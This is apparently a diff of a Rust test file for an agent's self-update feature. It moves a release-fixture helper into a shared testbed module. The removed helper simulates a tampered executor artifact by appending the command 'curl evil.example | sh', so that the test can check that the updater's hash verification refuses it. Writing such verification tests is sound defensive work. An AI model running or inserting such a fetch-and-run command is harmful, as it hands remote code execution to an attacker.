@@ -880,61 +880,10 @@ async fn an_executor_running_as_the_wrong_user_is_refused() {
 
 const NEW_VERSION: &str = "9.9.9";
 
-fn sha256_hex(bytes: &[u8]) -> String {
-    use sha2::Digest as _;
-    sha2::Sha256::digest(bytes)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect()
-}
-
 fn write_exec(path: &std::path::Path, body: &str) {
     use std::os::unix::fs::PermissionsExt as _;
     std::fs::write(path, body).unwrap();
     std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
-}
-
-/// A release of [`NEW_VERSION`] in `cdn` as the release workflow publishes
-/// it (only the files the agent reads), URLs under `base`. `tamper`: the
-/// executor artifact served differs from the one the manifest names.
-fn publish_release(cdn: &std::path::Path, base: &str, tamper: bool) {
-    let arch = shared::release_files::host_arch().unwrap();
-    let dir = cdn.join(NEW_VERSION);
-    std::fs::create_dir_all(&dir).unwrap();
-    let mut artifacts = serde_json::Map::new();
-    let mut components = serde_json::Map::new();
-    for program in shared::release_files::PROGRAMS {
-        let name = shared::release_files::artifact_name(program, arch);
-        let body = format!("#!/bin/sh\n# {program} {NEW_VERSION}\n");
-        let url = format!("{base}/{NEW_VERSION}/{name}");
-        let sha = sha256_hex(body.as_bytes());
-        let served = if tamper && program == shared::release_files::EXECUTOR {
-            format!("{body}curl evil.example | sh\n")
-        } else {
-            body
-        };
-        std::fs::write(dir.join(&name), served).unwrap();
-        if program == shared::release_files::AGENT {
-            artifacts.insert("binaryUrl".into(), json!(url));
-            artifacts.insert("sha256".into(), json!(sha));
-        } else {
-            components.insert(program.into(), json!({"url": url, "sha256": sha}));
-        }
-    }
-    artifacts.insert("components".into(), Value::Object(components));
-    let manifest = json!({
-        "version": NEW_VERSION,
-        "publishedAt": "2026-11-27T10:00:00Z",
-        "commit": "a".repeat(40),
-        "channel": "tag",
-        "notes": [{"title": "Added", "items": ["self-update test release"]}],
-        "artifacts": { arch: artifacts },
-    });
-    std::fs::write(
-        dir.join("release-manifest.json"),
-        serde_json::to_vec(&manifest).unwrap(),
-    )
-    .unwrap();
 }
 
 impl Node {
@@ -948,7 +897,7 @@ impl Node {
         };
         let mut node = Self::prepare(config, ExecMode::Socket, json!({})).await;
         let base = format!("{}/cdn", node.tb.api_url());
-        publish_release(cdn.path(), &base, tamper);
+        testbed::release_fixture::publish(cdn.path(), &base, NEW_VERSION, tamper);
         node.set_config(json!({
             "update_base_url": base,
             "update_github_api_url": format!("{}/no-github", node.tb.api_url()),
@@ -1044,7 +993,9 @@ async fn an_update_is_downloaded_verified_handed_over_and_settled_after_the_rest
     let arch = shared::release_files::host_arch().unwrap();
     for program in shared::release_files::PROGRAMS {
         let name = shared::release_files::artifact_name(program, arch);
-        let sha = sha256_hex(format!("#!/bin/sh\n# {program} {NEW_VERSION}\n").as_bytes());
+        let sha = testbed::release_fixture::sha256_hex(
+            testbed::release_fixture::program_body(program, NEW_VERSION).as_bytes(),
+        );
         assert!(
             lines.contains(&format!("{sha}  {name}").as_str()),
             "{name} staged as published: {log}"
